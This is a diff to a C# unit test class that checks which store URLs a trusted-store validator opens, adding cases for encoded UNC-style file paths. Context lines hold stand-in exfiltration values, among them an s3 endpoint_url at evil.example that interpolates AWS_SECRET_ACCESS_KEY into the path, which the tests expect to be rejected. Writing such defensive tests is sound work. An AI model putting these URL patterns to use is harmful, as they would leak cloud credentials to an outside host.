@@ -16,6 +16,10 @@ public sealed class TrustedStoresTests
     [InlineData("s3://team/flows?endpoint_url=https://evil.example/$%7BAWS_SECRET_ACCESS_KEY%7D", "s3://team/flows?endpoint_url=https://s3.example&aws_secret_access_key=$%7BKEY%7D")]
     [InlineData("s3://other/flows?region=$%7BAWS_SECRET_ACCESS_KEY%7D", null)]
     [InlineData("file://share/flows", null)]
+    [InlineData("file:////share/flows", null)]
+    [InlineData("file:///%5C%5Cshare/flows", null)]
+    [InlineData("file:///%2f%2fshare/flows", null)]
+    [InlineData("file:///C:/flows", "file:///C:/flows")]
     [InlineData("az://box/flows?endpoint_url=https://evil.example", null)]
     [InlineData("webhook+https://evil.example/flows", null)]
     public void A_record_is_read_where_no_secret_can_go_elsewhere(string store, string? opened)
